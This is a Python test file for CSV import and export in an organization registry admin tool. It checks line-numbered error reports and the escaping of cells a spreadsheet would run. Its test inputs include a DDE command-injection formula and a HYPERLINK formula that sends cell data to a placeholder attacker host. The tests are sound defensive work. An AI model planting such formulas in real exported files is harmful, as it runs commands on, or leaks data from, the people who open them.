"""CSV import (every bad row by its line) and export (no cell a spreadsheet would run)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from flask import Flask
from sqlalchemy import select

from registry_admin.db import db, transaction
from registry_admin.registry import services
from registry_admin.registry.csv_io import (
    export_csv,
    import_rows,
    neutralize_cell,
    read_import_csv,
)
from registry_admin.registry.models import Organization

HELSINKI = "0201256-6"
ESPOO = "0101263-6"
VANTAA = "0124610-9"


def test_rows_in_every_id_form_with_and_without_a_header() -> None:
    body = f"FI02012566,Helsingin kaupunki\n{ESPOO.replace('-', '')}, Espoon  kaupunki \n"
    for text in (body, "business_id,name\n" + body, "\ufeffBusiness_ID , Name\n" + body):
        rows, errors = read_import_csv(text)
        assert errors == []
        assert [(r.business_id, r.name) for r in rows] == [
            (HELSINKI, "Helsingin kaupunki"),
            (ESPOO, "Espoon kaupunki"),
        ]
    rows, _ = read_import_csv("business_id,name\n" + body)
    assert [r.line for r in rows] == [2, 3]


def test_every_bad_row_is_named_by_its_line() -> None:
    text = (
        "business_id,name\n"  # 1
        f"{HELSINKI},Helsinki\n"  # 2
        "0201256-5,Wrong check digit\n"  # 3
        "\n"  # 4: blank lines are skipped, not errors
        "12345,Too short\n"  # 5
        f"{ESPOO}\n"  # 6: one column
        f"{VANTAA},Vantaa,extra\n"  # 7: three columns
        f'{VANTAA},"Quoted\nover two lines"\n'  # 8-9
        f"{ESPOO},\x07Bell\n"  # 10
        f"{HELSINKI},Another name\n"  # 11: duplicate with another name
        f"{HELSINKI},Helsinki\n"  # 12: duplicate, same name: harmless
        f"{ESPOO},{'x' * 400}\n"  # 13
        "=cmd|' /C calc'!A0,Injection\n"  # 14
    )
    rows, errors = read_import_csv(text)
    assert [(r.line, r.business_id, r.name) for r in rows] == [
        (2, HELSINKI, "Helsinki"),
        (8, VANTAA, "Quoted over two lines"),
    ]
    assert [e.split(":")[0] for e in errors] == [
        "line 3",
        "line 5",
        "line 6",
        "line 7",
        "line 10",
        "line 11",
        "line 13",
        "line 14",
    ]
    assert "check digit" in errors[0]
    assert "expected 2 columns" in errors[2]
    assert "control characters" in errors[4]
    assert f"{HELSINKI} is on line 2 with another name" in errors[5]
    assert "longer than" in errors[6]


def test_an_unterminated_quote_does_not_break_the_report() -> None:
    rows, errors = read_import_csv(f'{HELSINKI},Helsinki\n{ESPOO},"Espoo\n')
    assert [r.business_id for r in rows] == [HELSINKI, ESPOO]
    assert errors == []


def test_import_is_idempotent_and_keeps_what_staff_removed(app: Flask) -> None:
    rows, _ = read_import_csv(f"{HELSINKI},Helsinki\n{ESPOO},Espoo\n{VANTAA},Vantaa\n")
    with app.app_context(), transaction() as session:
        result = import_rows(session, rows, actor="importer")
    assert (result.added, result.already) == (3, 0)

    with app.app_context(), transaction() as session:
        services.remove_organization(session, VANTAA, actor="admin", reason="left")
        services.rename_organization(session, ESPOO, "Esbo", actor="admin")
    with app.app_context(), transaction() as session:
        again = import_rows(session, rows, actor="importer")
    assert (again.added, again.already) == (0, 2)
    assert again.name_differs == [f"line 2: {ESPOO} is registered as 'Esbo'"]
    assert again.kept_removed == [f"line 3: {VANTAA} Vantaa"]
    with app.app_context():
        orgs = {o.business_id: o for o in db.session.scalars(select(Organization))}
        assert orgs[VANTAA].status == "removed"
        assert orgs[ESPOO].name == "Esbo"
        assert {o.source for o in orgs.values()} == {"manual"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralize_cell(start: str) -> None:
    assert neutralize_cell(start + "1+1") == "'" + start + "1+1"


def test_neutralize_leaves_ordinary_text() -> None:
    for value in ("Helsinki", "0201256-6", "A=B", "", "'quoted", "Åbo"):
        assert neutralize_cell(value) == value


class _Org:
    """An organization as export_csv reads it, without a database."""

    def __init__(self, business_id: str, name: str, removed: bool = False) -> None:
        self.business_id = business_id
        self.name = name
        self.source = "manual"
        self.status = "removed" if removed else "active"
        self.registered_at = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
        self.removed_at = datetime(2026, 11, 28, 13, 0, tzinfo=UTC) if removed else None


def test_export_neutralizes_formulas_and_round_trips() -> None:
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+358 40 123",
        "-1",
        "@SUM(A1:A2)",
        "\tTabbed",
        "\rReturn",
        'Quote "and", comma',
        "Tavallinen yhdistys ry",
    ]
    orgs = [_Org(f"{i:07d}-0", name, removed=(i == 1)) for i, name in enumerate(names)]
    text = export_csv(orgs)
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert records[0] == ["business_id", "name", "source", "status", "registered_at", "removed_at"]
    assert len(records) == len(names) + 1
    for org, record in zip(orgs, records[1:], strict=True):
        assert record[0] == org.business_id
        assert not record[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        expected = org.name if org.name[0] not in "=+-@\t\r" else "'" + org.name
        assert record[1] == expected
        assert record[4] == "2026-11-28T12:00:00+00:00"
    assert records[2][3:] == ["removed", "2026-11-28T12:00:00+00:00", "2026-11-28T13:00:00+00:00"]
    assert records[1][5] == ""
